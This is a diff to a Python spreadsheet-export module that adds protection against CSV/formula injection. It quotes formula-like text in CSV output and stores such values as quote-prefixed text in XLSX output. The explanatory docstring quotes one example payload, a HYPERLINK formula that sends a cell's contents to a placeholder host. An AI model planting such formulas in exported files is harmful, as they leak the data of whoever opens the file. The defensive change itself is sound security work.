@@ -3,12 +3,19 @@
 A list describes its columns once (header, kind, width) and hands over an iterator of row
 tuples (values_list(...).iterator()); these functions turn it into a download. Shared by every
 app (dependencies point one way, so it lives in the lowest app).
+
+Every export goes through here, so here user text is kept from becoming a formula (OWASP "CSV
+injection"): text such as =HYPERLINK("http://x.example/?d="&B2,"Click") would run when the
+file is opened. In CSV, which has no types, such text gets a leading single quote; in XLSX it
+is stored as text (a string cell with Excel's quote-prefix style), unchanged. Numbers stay
+numbers: only text is touched.
 """
 
 from __future__ import annotations
 
 import csv
 import datetime
+import re
 import tempfile
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
@@ -22,6 +29,22 @@ class Column:
     header: str
     kind: str = "text"  # text | date | datetime | number | percent
     width: int = 18
+
+
+# Text a spreadsheet would read as a formula: starting with = + - @, a tab or a carriage
+# return, also after leading spaces or line breaks.
+_FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@]")
+
+
+def looks_like_formula(text: str) -> bool:
+    return _FORMULA_START.match(text) is not None
+
+
+def neutralise(value):
+    """`value` as CSV may write it: formula-like text behind a single quote, the rest as is."""
+    if isinstance(value, str) and _FORMULA_START.match(value):
+        return "'" + value
+    return value
 
 
 class _Echo:
@@ -42,7 +65,7 @@ def _csv_cell(tz):
             return value.astimezone(tz).isoformat(timespec="seconds") if value.tzinfo else value
         if isinstance(value, datetime.date):
             return value.isoformat()
-        return value
+        return neutralise(value)
 
     return cell
 
@@ -125,9 +148,21 @@ def write_xlsx(handle, sheets: Iterable[tuple[str, Sequence[Column], Iterable[Se
                 cell = WriteOnlyCell(sheet, value=_xlsx_value(value, column.kind))
                 if number_format:
                     cell.number_format = number_format
+                if cell.data_type != "n":
+                    _keep_as_text(cell)
                 cells.append(cell)
             sheet.append(cells)
     workbook.save(handle)
+
+
+def _keep_as_text(cell) -> None:
+    """openpyxl stores text starting with "=" as a formula and "#N/A" as an error: store them
+    as text, and mark formula-like text quote-prefixed, so that Excel keeps it text even when
+    the cell is edited."""
+    if cell.data_type in ("f", "e"):
+        cell.data_type = "s"
+    if cell.data_type == "s" and looks_like_formula(cell.value):
+        cell.quotePrefix = True
 
 
 def _sheet_title(title: str) -> str:
